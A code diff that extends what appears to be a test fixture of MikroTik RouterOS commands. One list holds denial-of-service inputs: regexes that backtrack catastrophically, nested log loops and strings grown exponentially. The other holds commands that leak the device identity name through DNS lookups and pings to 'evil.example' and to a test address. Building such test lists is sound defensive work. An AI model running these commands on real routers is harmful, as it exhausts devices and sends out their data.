@@ -32,6 +32,15 @@ export const busyCommands: readonly string[] = lines(`
 /tool traceroute 10.0.0.1 count=1 max-hops=255
 /tool profile duration=1h
 /tool profile duration=$x
+/ip address print where comment~"((a{90}){90}){90}"
+/ip address print where comment~"(a*)*b"
+/ip address print where comment~"a{30000}"
+:put ("aaa" ~ "(a+)+b")
+:local p [/log get 0 message]; /ip address print where comment~$p
+:local l [/log find]; :foreach i in=($l) do={/log print}
+:local l [/log find]; :foreach i in=($l,$l) do={:foreach j in=($l,$l) do={:put $j}}
+:local a [:convert "x" to=hex]; :local b [:convert $a to=hex]; :local c [:convert $b to=hex]; :local d [:convert $c to=hex]; :put $d
+:local a [/log print as-value]; :local b "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"; :for i from=1 to=1000 do={:put $b}
 /interface ethernet cable-test ether1 once
 :local a "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"; :local b ($a.$a.$a.$a.$a.$a.$a.$a.$a.$a); :local c ($b.$b.$b.$b.$b.$b.$b.$b.$b.$b); :local d ($c.$c.$c.$c.$c.$c.$c.$c.$c.$c); :local e ($d.$d.$d.$d.$d.$d.$d.$d.$d.$d); :local f ($e.$e.$e.$e.$e.$e.$e.$e.$e.$e); :put [:len $f]
 :local a [/ip address print as-value]; :local b "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"; :local c "$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b"; :put "$c$c"
@@ -59,5 +68,8 @@ export const tellingCommands: readonly string[] = lines(`
 :resolve a.evil.example type=[/system identity get name]
 :local n [/system identity get name]; :resolve $n
 :local n [/system identity get name]; /ping "$n.evil.example" count=1
+/ip address print 99; /ping 203.0.113.1 count=1
+/ip address print from=x; /ping 203.0.113.1 count=1
+/ip address find; /ping 203.0.113.1 count=1
 { :if (true) do={:error "x"}; :resolve a.evil.example }
 `);
